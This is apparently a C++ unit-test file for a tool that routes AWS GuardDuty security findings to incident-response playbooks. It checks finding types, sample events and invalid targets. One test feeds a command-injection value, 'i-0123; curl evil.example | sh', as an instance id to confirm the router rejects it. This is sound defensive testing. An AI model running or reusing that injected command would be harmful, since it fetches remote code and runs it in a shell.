// The routing table against every finding type GuardDuty's own tester and the 2021 user
// guide list, against every finding sample in ../shared/data, and the choices inside a family
// (whose credentials, which resource) that the type alone does not decide.
#include "firebreak/findings/routing.h"

#include <gtest/gtest.h>

#include <map>
#include <regex>
#include <set>

#include "test_data.h"

namespace firebreak::findings {
namespace {

using testing::fixture;
using testing::read_json;
using testing::read_text;
using testing::shared_data;

// A GuardDuty finding of `type` about the kind of resource guardduty-tester names (ec2, eks,
// ecs-ec2, ecs-fargate, lambda, iam, s3, attack-sequence), shaped as GuardDuty shapes it.
Json synthetic_finding(const std::string& type, const std::string& resource) {
  Json finding = {{"schemaVersion", "2.0"}, {"accountId", "111122223333"}, {"region", "us-east-1"},
                  {"partition", "aws"},     {"id", "0123456789abcdef0123456789abcdef"},
                  {"type", type},           {"severity", 5},
                  {"service", {{"serviceName", "guardduty"}}}};
  Json& r = finding["resource"];
  if (resource == "ec2") {
    r = {{"resourceType", "Instance"}, {"instanceDetails", {{"instanceId", "i-0123456789abcdef0"}}}};
  } else if (resource == "ecs-ec2" || resource == "ecs-fargate") {
    r = {{"resourceType", "ECSCluster"},
         {"ecsClusterDetails", {{"name", "web"}, {"arn", "arn:aws:ecs:us-east-1:111122223333:cluster/web"}}}};
    if (resource == "ecs-ec2") r["instanceDetails"] = {{"instanceId", "i-0123456789abcdef0"}};
  } else if (resource == "eks") {
    r = {{"resourceType", "EKSCluster"}, {"eksClusterDetails", {{"name", "prod"}}}};
  } else if (resource == "lambda") {
    r = {{"resourceType", "Lambda"}, {"lambdaDetails", {{"functionName", "resize"}, {"role", "arn:aws:iam::111122223333:role/resize"}}}};
  } else if (resource == "iam") {
    // GuardDuty reports an instance role's stolen session as the role's AssumedRole credentials.
    const bool role = type.find("InstanceCredentialExfiltration") != std::string::npos;
    r = {{"resourceType", "AccessKey"},
         {"accessKeyDetails", {{"accessKeyId", role ? "ASIAQEXAMPLEKEY12345" : "AKIAQEXAMPLEKEY12345"},
                               {"principalId", role ? "AROAQEXAMPLEROLE1234:i-0123456789abcdef0" : "AIDAQEXAMPLEUSER1234"},
                               {"userName", role ? "web-role" : "alice"},
                               {"userType", role ? "AssumedRole" : "IAMUser"}}}};
  } else if (resource == "s3") {
    r = {{"resourceType", "S3Bucket"}, {"s3BucketDetails", {{{"name", "customer-data"}, {"type", "Destination"}}}}};
  } else if (resource == "attack-sequence") {
    r = {{"resourceType", "AttackSequence"}};
    finding["service"]["detection"]["sequence"]["resources"] = {{{"name", "customer-data"}, {"resourceType", "S3_BUCKET"}}};
  } else {
    ADD_FAILURE() << "unknown resource " << resource;
  }
  return finding;
}

Route route_of(const Json& finding) { return route(incident_from_guardduty(finding)); }

// What each resource kind of the tester answers to; "" means deliberately unrouted.
const std::map<std::string, std::string> kExpectedByResource = {
    {"ec2", "ec2"},         {"ecs-ec2", "ecs"}, {"ecs-fargate", "ecs"}, {"eks", ""},
    {"lambda", ""},         {"iam", "credentials"}, {"s3", "s3"},       {"attack-sequence", "s3"},
};
// Types that answer to a different playbook than their resource kind, and why (routing.cpp).
const std::map<std::string, std::string> kExceptions = {
    {"UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", "role"},
    {"UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.InsideAWS", "role"},
    {"Policy:IAMUser/RootCredentialUsage", "account"},
};

void expect_route(const std::string& type, const std::string& resource, const std::string& expected) {
  const Route r = route_of(synthetic_finding(type, resource));
  SCOPED_TRACE(type + " on " + resource + ": " + r.summary());
  EXPECT_FALSE(r.family.empty()) << "no table row covers it";
  if (expected.empty()) {
    EXPECT_FALSE(r.routed());
    EXPECT_FALSE(r.reason.empty());
    return;
  }
  ASSERT_TRUE(r.routed());
  EXPECT_EQ(playbook_name(*r.playbook), expected);
  EXPECT_FALSE(r.targets.empty()) << r.reason;
}

TEST(RoutingTest, EveryGuardDutyTesterDefinitionRoutesToItsResourcesPlaybook) {
  const Json definitions = read_json(shared_data("guardduty-tester/definitions.json"))["definitions"];
  ASSERT_GE(definitions.size(), 100u);
  std::set<std::string> types;
  for (const Json& definition : definitions) {
    const std::string type = definition["findingType"];
    const std::string resource = definition["resource"];
    ASSERT_TRUE(kExpectedByResource.count(resource)) << resource;
    auto exception = kExceptions.find(type);
    expect_route(type, resource, exception != kExceptions.end() ? exception->second : kExpectedByResource.at(resource));
    types.insert(type);
  }
  EXPECT_EQ(types.size(), 63u);
}

// The user guide's table (2021): "| **[Type\.With\!Escapes](link)** | EC2 | source | severity |".
std::vector<std::pair<std::string, std::string>> user_guide_types() {
  const std::string text = read_text(shared_data("guardduty-user-guide-2021/guardduty_finding-types-active.md"));
  static const std::regex kRow(R"(\| \*\*\[([^\]]+)\]\([^)]*\)\*\* \| (\w+) \|)");
  std::vector<std::pair<std::string, std::string>> rows;
  for (std::sregex_iterator it(text.begin(), text.end(), kRow), end; it != end; ++it) {
    std::string type = (*it)[1];
    type.erase(std::remove(type.begin(), type.end(), '\\'), type.end());
    rows.emplace_back(type, (*it)[2]);
  }
  return rows;
}

TEST(RoutingTest, EveryTypeOfThe2021UserGuideRoutes) {
  const std::map<std::string, std::pair<std::string, std::string>> by_column = {
      {"EC2", {"ec2", "ec2"}}, {"IAM", {"iam", "credentials"}}, {"S3", {"s3", "s3"}}};
  const auto rows = user_guide_types();
  ASSERT_EQ(rows.size(), 74u);
  for (const auto& [type, column] : rows) {
    ASSERT_TRUE(by_column.count(column)) << column;
    const auto& [resource, playbook] = by_column.at(column);
    auto exception = kExceptions.find(type);
    expect_route(type, resource, exception != kExceptions.end() ? exception->second : playbook);
  }
}

TEST(RoutingTest, IamFamiliesGoByWhoseCredentialsActed) {
  Json finding = synthetic_finding("UnauthorizedAccess:IAMUser/TorIPCaller", "iam");
  Route user = route_of(finding);
  EXPECT_EQ(user.summary(), "credentials");
  EXPECT_EQ(user.targets, std::vector<std::string>{"alice"});

  finding["resource"]["accessKeyDetails"] = {{"accessKeyId", "ASIAQEXAMPLEKEY12345"},
                                             {"principalId", "AROAQEXAMPLEROLE1234:session-1"},
                                             {"userName", "deploy"}, {"userType", "AssumedRole"}};
  Route role = route_of(finding);
  EXPECT_EQ(role.summary(), "role");
  EXPECT_EQ(role.targets, std::vector<std::string>{"deploy"});

  finding["resource"]["accessKeyDetails"] = {{"principalId", "111122223333"}, {"userName", "Root"}, {"userType", "Root"}};
  Route root = route_of(finding);
  EXPECT_EQ(root.summary(), "account");
  EXPECT_EQ(root.targets, std::vector<std::string>{"111122223333"});

  finding["resource"]["accessKeyDetails"] = {{"userName", "alice"}, {"userType", "FederatedUser"}};
  EXPECT_EQ(route_of(finding).summary(), "credentials");

  finding["resource"]["accessKeyDetails"] = {{"userName", "partner"}, {"userType", "AWSAccount"}};
  Route other = route_of(finding);
  EXPECT_FALSE(other.routed());
  EXPECT_NE(other.reason.find("another AWS account"), std::string::npos) << other.reason;

  // No user type, but IAM's unique-id prefix says it is a role session.
  finding["resource"]["accessKeyDetails"] = {{"principalId", "AROAQEXAMPLEROLE1234:s"}, {"userName", "deploy"}};
  EXPECT_EQ(route_of(finding).summary(), "role");
}

TEST(RoutingTest, InstanceCredentialExfiltrationRevokesTheRoleAndNamesTheInstance) {
  Json finding = synthetic_finding("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", "iam");
  finding["resource"]["instanceDetails"] = {{"instanceId", "i-0123456789abcdef0"}};
  Route r = route_of(finding);
  EXPECT_EQ(r.summary(), "role");
  EXPECT_EQ(r.targets, std::vector<std::string>{"web-role"});
  EXPECT_NE(r.reason.find("i-0123456789abcdef0 with the ec2 playbook"), std::string::npos) << r.reason;
}

TEST(RoutingTest, RuntimeFindingsGoWhereTheProcessRan) {
  EXPECT_EQ(route_of(synthetic_finding("Execution:Runtime/ReverseShell", "ec2")).summary(), "ec2");
  EXPECT_EQ(route_of(synthetic_finding("Execution:Runtime/ReverseShell", "ecs-fargate")).summary(), "ecs");

  Json container = synthetic_finding("Execution:Runtime/ReverseShell", "ec2");
  container["resource"] = {{"resourceType", "Container"},
                           {"containerDetails", {{"id", "3f2e1d0c9b8a"}, {"name", "legacy-app"}}},
                           {"instanceDetails", {{"instanceId", "i-0123456789abcdef0"}}}};
  Route bare = route_of(container);
  EXPECT_EQ(bare.summary(), "container");
  EXPECT_EQ(bare.targets, std::vector<std::string>{"3f2e1d0c9b8a"});

  // EKS has no playbook, but the node instance the process ran on is the ec2 playbook's.
  Json eks = synthetic_finding("CryptoCurrency:Runtime/BitcoinTool.B!DNS", "eks");
  Route no_node = route_of(eks);
  EXPECT_FALSE(no_node.routed());
  EXPECT_NE(no_node.reason.find("no EKS playbook"), std::string::npos) << no_node.reason;
  eks["resource"]["instanceDetails"] = {{"instanceId", "i-0fedcba9876543210"}};
  Route node = route_of(eks);
  EXPECT_EQ(node.summary(), "ec2");
  EXPECT_EQ(node.targets, std::vector<std::string>{"i-0fedcba9876543210"});
  EXPECT_NE(node.reason.find("node instance i-0fedcba9876543210"), std::string::npos) << node.reason;

  // A Runtime finding that does not say what it ran on is not guessed.
  Json unknown = synthetic_finding("Execution:Runtime/ReverseShell", "ec2");
  unknown["resource"] = Json::object();
  Route nowhere = route_of(unknown);
  EXPECT_FALSE(nowhere.routed());
  EXPECT_NE(nowhere.reason.find("does not say where to act"), std::string::npos) << nowhere.reason;
}

TEST(RoutingTest, MalwareProtectionGoesToTheResourceScanned) {
  EXPECT_EQ(route_of(synthetic_finding("Execution:EC2/MaliciousFile", "ec2")).summary(), "ec2");
  EXPECT_EQ(route_of(synthetic_finding("Execution:ECS/MaliciousFile", "ecs-ec2")).summary(), "ecs");
  EXPECT_EQ(route_of(synthetic_finding("Object:S3/MaliciousFile", "s3")).summary(), "s3");
  Json snapshot = synthetic_finding("Execution:EC2/MaliciousFile!Snapshot", "ec2");
  snapshot["resource"] = {{"resourceType", "EBSSnapshot"},
                          {"ebsSnapshotDetails", {{"snapshotArn", "arn:aws:ec2:us-east-1::snapshot/snap-0123"}}}};
  Route backup = route_of(snapshot);
  EXPECT_FALSE(backup.routed());
  EXPECT_NE(backup.reason.find("EBS snapshot"), std::string::npos) << backup.reason;
}

TEST(RoutingTest, LambdaIsUnroutedAndNamesItsRole) {
  Route r = route_of(synthetic_finding("Backdoor:Lambda/C&CActivity.B", "lambda"));
  EXPECT_FALSE(r.routed());
  EXPECT_NE(r.reason.find("no Lambda playbook"), std::string::npos) << r.reason;
  EXPECT_NE(r.reason.find("arn:aws:iam::111122223333:role/resize"), std::string::npos) << r.reason;
}

TEST(RoutingTest, RdsLoginFindingsGoToTheDatabase) {
  FindingSet set = read_findings_file(fixture("getfindings_response.json"));
  Route r = route(set.incidents.at(1));
  EXPECT_EQ(r.summary(), "rds");
  EXPECT_EQ(r.targets, std::vector<std::string>{"orders-db"});
}

TEST(RoutingTest, UnknownTypesAreNeverGuessed) {
  Json finding = synthetic_finding("Sabotage:EC2/Newfangled", "ec2");
  Route r = route_of(finding);
  EXPECT_FALSE(r.routed());
  EXPECT_TRUE(r.family.empty());
  EXPECT_EQ(r.reason, "no routing for finding type 'Sabotage:EC2/Newfangled': its family is not in the routing table");
  finding["type"] = "Backdoor:Quantum/Entangled";
  EXPECT_FALSE(route_of(finding).routed());
  finding["type"] = "not a type";
  EXPECT_NE(route_of(finding).reason.find("is not a GuardDuty finding type"), std::string::npos);
  finding["type"] = "Canary:EC2/Stateless.IntegTest";
  EXPECT_NE(route_of(finding).reason.find("integration-test"), std::string::npos);
}

TEST(RoutingTest, TargetsAreOnlyValidIds) {
  Json finding = synthetic_finding("Backdoor:EC2/C&CActivity.B", "ec2");
  finding["resource"]["instanceDetails"]["instanceId"] = "i-0123; curl evil.example | sh";
  Route r = route_of(finding);
  EXPECT_EQ(r.summary(), "ec2");
  EXPECT_TRUE(r.targets.empty());
  EXPECT_NE(r.reason.find("no valid instance id"), std::string::npos) << r.reason;

  finding = synthetic_finding("Policy:S3/BucketPublicAccessGranted", "s3");
  finding["resource"]["s3BucketDetails"] = {{{"name", "Bad_Bucket"}}, {{"name", "good-bucket"}}};
  EXPECT_EQ(route_of(finding).targets, std::vector<std::string>{"good-bucket"});
}

TEST(RoutingTest, OtherProductsInSecurityHubAreUnrouted) {
  FindingSet set = read_findings_file(shared_data("cloud-custodian-cwe/event-securityhub-lambda-cross.json"));
  Route r = route(set.incidents.at(0));
  EXPECT_FALSE(r.routed());
  EXPECT_NE(r.reason.find("a Default finding, not GuardDuty's"), std::string::npos) << r.reason;
}

// Every finding sample in ../shared/data: read, and routed or unrouted with a reason.
TEST(RoutingTest, EverySharedSampleRoutes) {
  struct Expected {
    std::string path;
    std::vector<std::string> summaries;  // per finding: playbook name, or "unrouted"
  };
  const std::vector<Expected> samples = {
      {"guardduty-automated-response-sample/guardduty_ec2_event.json", {"unrouted"}},  // Canary
      {"guardduty-automated-response-sample/guardduty_iam_event.json", {"credentials"}},
      {"guardduty-automated-response-sample/guardduty_s3_event.json", {"s3"}},
      {"cloud-custodian-cwe/ec2-duty-event.json", {"ec2"}},
      {"cloud-custodian-cwe/iam-duty-event.json", {"credentials"}},
      {"cloud-custodian-cwe/event-securityhub-iamkey-finding-action.json", {"credentials"}},
      {"cloud-custodian-cwe/event-securityhub-cloudtrail-finding-action.json", {"unrouted"}},  // CIS check
      {"cloud-custodian-cwe/event-securityhub-lambda-cross.json", {"unrouted"}},               // Cloud Custodian
      {"hmrc-platsec-compliance-alerting/guardduty_message.json", {"s3"}},
      {"hmrc-platsec-compliance-alerting/guardduty_event.json", {"s3"}},
  };
  for (const auto& sample : samples) {
    SCOPED_TRACE(sample.path);
    RoutedFindings routed = route_file(shared_data(sample.path));
    EXPECT_TRUE(routed.problems.empty());
    ASSERT_EQ(routed.findings.size(), sample.summaries.size());
    for (size_t i = 0; i < routed.findings.size(); ++i) {
      const Route& r = routed.findings[i].route;
      EXPECT_EQ(r.routed() ? std::string(playbook_name(*r.playbook)) : "unrouted", sample.summaries[i]) << r.reason;
      EXPECT_FALSE(r.reason.empty());
    }
  }
  int panther = 0;
  for (const auto& file : testing::panther_rule_files()) {
    for (const Json& log : testing::panther_logs(file)) {
      RoutedFindings routed = route_document(log, file);
      ASSERT_EQ(routed.findings.size(), 1u);
      const auto& [incident, r] = routed.findings[0];
      const bool s3 = incident.type.find(":S3/") != std::string::npos;
      EXPECT_EQ(r.summary(), s3 ? "s3" : "credentials") << incident.type << ": " << r.reason;
      ++panther;
    }
  }
  EXPECT_EQ(panther, 8);
}

TEST(RoutingTest, HmrcBucketTargetAndTheRoleThatActed) {
  RoutedFindings routed = route_file(shared_data("hmrc-platsec-compliance-alerting/guardduty_event.json"));
  ASSERT_EQ(routed.findings.size(), 1u);
  EXPECT_EQ(routed.findings[0].route.targets, std::vector<std::string>{"test-gd-324237984731208478901374"});
  EXPECT_EQ(routed.findings[0].incident.actor.role_name, "RoleSandboxAccess");
}

TEST(RoutingTest, PlaybookNamesAreTheCommandNames) {
  for (const char* name : {"ec2", "s3", "ecs", "container", "rds", "credentials", "role", "account"}) {
    auto playbook = parse_playbook(name);
    ASSERT_TRUE(playbook) << name;
    EXPECT_EQ(playbook_name(*playbook), name);
  }
  EXPECT_FALSE(parse_playbook("eks"));
  const Json table = routing_table();
  EXPECT_GT(table.size(), 50u);
  std::set<std::string> families;
  for (const Json& row : table) EXPECT_TRUE(families.insert(row["family"].get<std::string>()).second) << row.dump();
}

}  // namespace
}  // namespace firebreak::findings
